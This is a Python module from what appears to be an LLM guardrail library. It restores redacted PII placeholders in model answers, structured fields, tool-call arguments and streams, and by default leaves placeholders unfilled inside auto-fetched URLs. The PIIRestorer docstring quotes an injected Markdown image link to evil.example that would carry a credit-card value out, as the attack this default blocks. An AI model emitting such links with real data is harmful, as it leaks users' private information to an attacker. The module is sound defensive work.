"""``pii_restore``: put the vault's values back where the model wrote their placeholders.

Contract: every placeholder form (``<PERSON_1>``, ``[person_1]``, ``PERSON_1`` …) whose
canonical ``<TYPE_N>`` is in this request's vault is replaced by its value, in one pass; other
placeholders are never filled (kept or removed, and reported). Default policy
``Policy.fail_open()``, no budget: the restoration always runs to its end (it is linear in the
answer and never stops early, so a budget could only throw its finished result away: a pause of
the process inside it, a gen-2 garbage collection, would turn a restored answer into one with
placeholders); an error shows placeholders (a degraded verdict), never someone's data. Lift
rate: the share of answers in which it restored a placeholder or met an unknown one.

Works on the answer text, on string fields of ``ctx.structured`` (a pydantic model, dict or
list), on the arguments of the answer's tool calls (``ctx.tool_calls``), and on streams
(:meth:`PIIRestorer.start_stream`, :func:`restore_stream`).
"""

from __future__ import annotations

import dataclasses
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from typing import Any

from ..._context import Context, Vault
from ..._decision import Decision
from ..._policy import Policy
from ...exceptions import ConfigError
from .engine import SUPPORTED_ENTITIES
from .placeholders import (
    LITERAL,
    MAX_REPORTED,
    PlaceholderSyntax,
    RestoreResult,
    Unknown,
    check_type,
    restore_text,
    syntax_for,
    vault_types,
)
from .stream import PlaceholderStream
from .urlspots import UrlKind


def restore_placeholders(text: str, vault: Vault | Mapping[str, str], *,
                         unknown: Unknown = "keep") -> str:
    """``text`` with every placeholder form in ``vault`` replaced by its value.

    Placeholders that are not in the vault are kept (``unknown="keep"``) or removed.
    """
    table = dict(vault.items())
    return restore_text(text, table, syntax_for(SUPPORTED_ENTITIES | vault_types(table)),
                        unknown).text


def restore_structured(obj: Any, restore: Callable[[str], str]) -> Any:
    """``obj`` with ``restore`` applied to every string inside it.

    Pydantic models and dataclasses are updated in place when they allow it, else copied;
    dicts, lists, tuples (named tuples too) and sets are rebuilt, with their type, when
    something in them changed. What holds no change is returned as it is (the same object: an
    enum member stays a member). Other objects are returned as is.
    """
    if isinstance(obj, str):
        new = restore(obj)
        return obj if new == obj else new
    if isinstance(obj, Mapping):  # keys too: a model answering "per person" keys by name
        pairs = [(restore_structured(k, restore), restore_structured(v, restore), k, v)
                 for k, v in obj.items()]
        if all(nk is k and nv is v for nk, nv, k, v in pairs):
            return obj
        items: dict[Any, Any] = {}
        for nk, nv, k, _ in pairs:  # two keys naming one value ("<PERSON_1>", "[PERSON_1]"):
            items[k if nk in items or (nk is not k and nk in obj) else nk] = nv  # none lost
        return _rebuilt(type(obj), items, items)
    if isinstance(obj, list | tuple | set | frozenset):
        new_items = [restore_structured(v, restore) for v in obj]
        if all(a is b for a, b in zip(new_items, obj, strict=True)):
            return obj
        if isinstance(obj, tuple) and hasattr(obj, "_fields"):  # a named tuple
            return _rebuilt(lambda items: type(obj)(*items), new_items, tuple(new_items))
        return _rebuilt(type(obj), new_items, new_items)
    updates = _field_updates(obj, restore)
    if not updates:
        return obj
    try:
        for name, value in updates.items():
            setattr(obj, name, value)
    except Exception:  # frozen, or a validator refusing the value: copy instead
        if dataclasses.is_dataclass(obj):
            try:
                return dataclasses.replace(obj, **updates)  # type: ignore[type-var]
            except Exception:
                return obj  # placeholders stay: never a wrong value
        return obj.model_copy(update=updates)
    return obj


def _rebuilt(make: Callable[[Any], Any], items: Any, fallback: Any) -> Any:
    try:
        return make(items)
    except Exception:  # a container type that cannot be built from its items
        return fallback


def _field_updates(obj: Any, restore: Callable[[str], str]) -> dict[str, Any]:
    """The restored values of a pydantic model's or a dataclass's fields that changed."""
    fields = getattr(type(obj), "model_fields", None)
    if isinstance(fields, Mapping) and hasattr(obj, "model_copy"):
        # and the fields a model with extra="allow" took from the answer beyond its own
        extra = getattr(obj, "model_extra", None)
        names = [*fields, *(k for k in extra or () if k not in fields)]
    elif dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        names = [f.name for f in dataclasses.fields(obj)]
    else:
        return {}
    updates = {}
    for name in names:
        old = getattr(obj, name, None)
        new_value = restore_structured(old, restore)
        if new_value is not old:
            updates[name] = new_value
    return updates


class PIIRestorer:
    """Output guard: rewrite placeholders back to this request's vault values.

    Options: ``entities`` (the types it reads as placeholders, besides those in the vault;
    default: every type the redactor knows); ``unknown``: ``"keep"`` (default) or
    ``"remove"`` placeholders that are not in the vault (they are never filled);
    ``in_fetched_urls``: ``"keep"`` (default) or ``"restore"`` placeholders inside a URL fetched
    without a click (a Markdown image, ``<img src>``, CSS ``url()``; in tool-call arguments and
    structured output any URL: see :mod:`.urlspots`), so that an injected
    ``![](https://evil.example/?d=<CREDIT_CARD_1>)`` sends nothing; ``in_links``:
    ``"restore"`` (default) or ``"keep"`` placeholders inside links and bare URLs (keep them
    where the UI unfurls link previews). Kept ones are counted in ``Decision.data["kept_in_urls"]``.
    """

    name = "pii_restore"
    # no budget: inline and never stopping early, it would only drop a finished restoration
    # (a pause of the process inside it kept 2 of 200 answers' placeholders, with 1,000 ms)
    default_policy = Policy.fail_open()
    cacheable = False
    soft_budget = True  # bounded CPU work: the budget is checked inline, no thread hop

    def __init__(self, *, entities: Sequence[str] | None = None, unknown: str = "keep",
                 in_fetched_urls: str = "keep", in_links: str = "restore") -> None:
        if entities is not None and (isinstance(entities, str)
                                     or not all(isinstance(e, str) for e in entities)):
            raise ConfigError("must be a list of entity type names", path="entities")
        try:
            self.types = SUPPORTED_ENTITIES | frozenset(check_type(e) for e in entities or ())
        except ValueError as exc:
            raise ConfigError(str(exc), path="entities") from exc
        if unknown not in ("keep", "remove"):
            raise ConfigError("must be 'keep' or 'remove'", path="unknown")
        self.unknown: Unknown = "keep" if unknown == "keep" else "remove"
        options: tuple[tuple[str, str, UrlKind], ...] = (
            ("in_fetched_urls", in_fetched_urls, "fetched"), ("in_links", in_links, "link"))
        for key, value, _ in options:
            if value not in ("keep", "restore"):
                raise ConfigError(f"must be 'keep' or 'restore', got {value!r}", path=key)
        self.in_fetched_urls, self.in_links = in_fetched_urls, in_links
        self.keep_in = frozenset(kind for _, value, kind in options if value == "keep")
        # in tool-call arguments a link is fetched too: the tool may open it at once
        link: frozenset[UrlKind] = frozenset(("link",))
        self.keep_in_tools = self.keep_in | link if "fetched" in self.keep_in else self.keep_in

    def _prepare(self, ctx: Context) -> tuple[dict[str, str], PlaceholderSyntax]:
        table = dict(ctx.vault.items())
        return table, syntax_for(self.types | vault_types(table))

    def __call__(self, text: str, ctx: Context) -> Decision:
        table, syntax = self._prepare(ctx)
        res = restore_text(text, table, syntax, self.unknown, keep_in=self.keep_in)
        structured = False
        if ctx.structured is not None:  # fields are data an app may fetch (an avatar_url shown
            # as an image), like tool-call arguments: every URL in them counts
            ctx.structured, structured = self._fill(ctx.structured, table, syntax, res,
                                                    self.keep_in_tools)
        tools = False
        for call in ctx.tool_calls:  # the answer's tool-call arguments
            args = call.get("arguments")
            # a string here did not parse (a cut-off answer) but is JSON text: values go in
            # JSON-escaped, as in streamed arguments
            raw_json = isinstance(args, str) and args.lstrip()[:1] in ("{", "[")
            call["arguments"], changed = self._fill(
                args, table, syntax.json_variant() if raw_json else syntax, res,
                self.keep_in_tools)
            tools = tools or changed
        return _decision(text, res, structured, tools)

    def _fill(self, obj: Any, table: dict[str, str], syntax: PlaceholderSyntax,
              res: RestoreResult, keep_in: frozenset[UrlKind]) -> tuple[Any, bool]:
        """``obj`` with every string inside restored; ``res`` collects what was restored or
        unknown; the flag says whether any placeholder was met."""
        parts: list[RestoreResult] = []

        def fill(s: str) -> str:
            r = restore_text(s, table, syntax, self.unknown, keep_in=keep_in)
            parts.append(r)
            return r.text

        new = restore_structured(obj, fill)
        for r in parts:
            res.restored.update(r.restored)
            res.unknown.extend(r.unknown)
            res.kept.update(r.kept)
        return new, any(r.restored or r.unknown or r.kept for r in parts)

    def start_stream(self, ctx: Context) -> PlaceholderStream:
        """Restore a streamed answer chunk by chunk (bounded holdback)."""
        table, syntax = self._prepare(ctx)
        return PlaceholderStream(table, syntax, self.unknown, keep_in=self.keep_in)

    def start_args_stream(self, ctx: Context) -> PlaceholderStream:
        """Restore one streamed tool call's JSON argument fragments: values are inserted
        JSON-escaped, since the placeholders sit inside JSON strings."""
        table, syntax = self._prepare(ctx)
        return PlaceholderStream(table, syntax, self.unknown, json_strings=True,
                                 keep_in=self.keep_in_tools)


def _decision(text: str, res: RestoreResult, structured: bool, tools: bool = False) -> Decision:
    data: dict[str, Any] = {"restored": _counts(res.restored)}
    if res.unknown:
        data["unknown_placeholders"] = res.unknown[:MAX_REPORTED]
    kept = sum(res.kept.values())
    if kept:
        data["kept_in_urls"] = _counts(res.kept)
    if structured:
        data["structured"] = True
    if tools:
        data["tool_calls"] = True
    if res.text != text:
        n = sum(res.restored.values())
        return Decision.rewrite(res.text, f"restored {n} placeholder(s)"
                                + (f", {len(res.unknown)} unknown" if res.unknown else "")
                                + (f", kept {kept} in URLs" if kept else ""), **data)
    if res.unknown or kept or structured or tools:
        notes = [f"{len(res.unknown)} unknown placeholder(s)"] if res.unknown else []
        notes += [f"kept {kept} placeholder(s) in URLs"] if kept else []
        return Decision.allow(", ".join(notes) or "restored fields", fired=True, **data)
    return Decision.allow()


def _counts(counter: Counter[str]) -> dict[str, int]:
    return {k: v for k, v in sorted(counter.items()) if k != LITERAL}
